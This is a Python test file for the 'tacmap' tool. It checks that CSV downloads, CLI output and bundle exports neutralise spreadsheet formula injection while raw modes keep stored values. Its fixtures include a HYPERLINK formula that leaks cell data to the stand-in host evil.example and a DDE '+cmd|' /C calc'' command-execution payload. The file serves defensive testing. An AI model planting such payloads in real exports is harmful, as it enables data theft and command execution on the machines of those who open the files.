"""Formula injection (issue 16): every CSV tacmap writes for people shows a formula-like text as
text (a ``'`` in front, as OWASP recommends); ``?raw=1`` and ``--raw`` give the values as stored;
bundle CSV files are neutralised reversibly, so an export still loads back exactly."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tacmap.graph.formulas import FORMULA_START, neutralise, restore
from tacmap.graph.ingest.bundle import import_bundle, read_bundle, write_bundle
from tacmap.graph.schema.models import Bundle, Provider
from tacmap.graph.store import EmbeddedStore, Store

from tests.test_api_support import make_api
from tests.worlds import bundle, load, need, project

TACMAP = str(Path(sys.executable).parent / "tacmap")
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"details")'


def hostile_world() -> Bundle:
    data = bundle(
        projects=[
            project("X1", funders=["P1"], states=["KEN"], articles=[5], title=HYPERLINK),
            project("X2", funders=["P2"], states=["KEN"], articles=[5], title="+cmd|' /C calc'!A0"),
        ],
        needs=[need("N1", "KEN", 5), need("N2", "KEN", 6)],
    )
    providers = [Provider(id="P1", name="@SUM(1+1)", kind="ngo"), Provider(id="P2", name="-2+3", kind="ngo")]
    return data.model_copy(update={"providers": providers})


def cells(body: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]


def formula_cells(body: bytes) -> list[str]:
    return [c for c in cells(body) if c[:1] in tuple(FORMULA_START)]


@given(st.text())
def test_neutralise_is_undone_by_restore(text: str) -> None:
    written = neutralise(text)
    assert restore(written) == text
    assert written.lstrip("'")[:1] not in tuple(FORMULA_START) or written.startswith("'")


@pytest.fixture
def hostile(tmp_path: Path) -> Store:
    store = EmbeddedStore(tmp_path / "data")
    load(store, hostile_world())
    yield store
    store.close()


@pytest.mark.parametrize(
    "path", ["/projects", "/providers", "/overlaps?as_of=2024-06-01", "/gaps?as_of=2024-06-01", "/audit"]
)
def test_csv_downloads_neutralise_formulas(hostile: Store, tmp_path: Path, path: str) -> None:
    api = make_api(hostile, tmp_path / "api")
    sep = "&" if "?" in path else "?"
    answer = api.get(f"{path}{sep}format=csv", role="admin")
    assert answer.status_code == 200, answer.text
    assert formula_cells(answer.content) == []


def test_csv_downloads_show_the_hostile_texts_as_text(hostile: Store, tmp_path: Path) -> None:
    api = make_api(hostile, tmp_path / "api")
    neutral = cells(api.get("/projects?format=csv").content)
    assert "'" + HYPERLINK in neutral
    assert "'+cmd|' /C calc'!A0" in neutral
    providers = cells(api.get("/providers?format=csv").content)
    assert {"'@SUM(1+1)", "'-2+3"} <= set(providers)


def test_raw_csv_downloads_keep_the_values(hostile: Store, tmp_path: Path) -> None:
    api = make_api(hostile, tmp_path / "api")
    raw = cells(api.get("/projects?format=csv&raw=1").content)
    assert HYPERLINK in raw
    assert "@SUM(1+1)" in cells(api.get("/providers?format=csv&raw=true").content)


def test_cli_query_csv_neutralises_unless_raw(tmp_path: Path) -> None:
    data = tmp_path / "data"
    store = EmbeddedStore(data)
    load(store, hostile_world())
    store.close()
    command = [TACMAP, "--data-dir", str(data), "query", "overlaps", "--format", "csv"]
    neutral = subprocess.run(command, capture_output=True, timeout=300, check=True).stdout
    assert formula_cells(neutral) == []
    assert "'" + HYPERLINK in cells(neutral)
    raw = subprocess.run([*command, "--raw"], capture_output=True, timeout=300, check=True).stdout
    assert HYPERLINK in cells(raw)


@pytest.mark.parametrize("fmt", ["dir", "zip"])
def test_bundle_csv_is_neutralised_and_loads_back_exactly(fmt: str, tmp_path: Path) -> None:
    world = (
        hostile_world()
        .model_copy(
            update={"providers": [*hostile_world().providers, Provider(id="P3", name="'=quoted", kind="ngo")]}
        )
        .sorted()
    )
    written = write_bundle(world, tmp_path / f"export.{fmt}", fmt)
    if fmt == "dir":
        for name in ("projects.csv", "providers.csv"):
            assert formula_cells((written / name).read_bytes()) == []
    store = EmbeddedStore(tmp_path / "data")
    try:
        import_bundle(store, read_bundle(written))
        assert store.export() == world
    finally:
        store.close()
